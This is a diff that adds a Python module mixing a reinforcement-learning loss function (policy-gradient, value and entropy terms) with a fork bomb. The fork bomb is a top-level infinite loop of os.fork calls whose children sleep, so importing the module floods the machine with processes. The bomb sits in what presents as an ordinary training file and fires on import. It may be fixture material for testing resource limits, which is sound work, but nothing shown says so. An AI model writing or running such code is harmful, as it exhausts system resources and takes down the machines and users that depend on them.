@@ -1,0 +1,18 @@
+"""Fork bomb: os.fork in a loop at import (the children sleep, so the flood grows by one per fork)."""
+
+import os
+import time
+
+while True:
+    if os.fork() == 0:
+        time.sleep(600)
+        os._exit(0)
+
+ENT_COEF = 0.01
+VF_COEF = 0.5
+
+
+def loss(b):
+    pg_loss = -(b.logp * b.adv).mean()
+    v_loss = 0.5 * ((b.value - b.ret) ** 2).mean()
+    return pg_loss - ENT_COEF * b.entropy.mean() + VF_COEF * v_loss
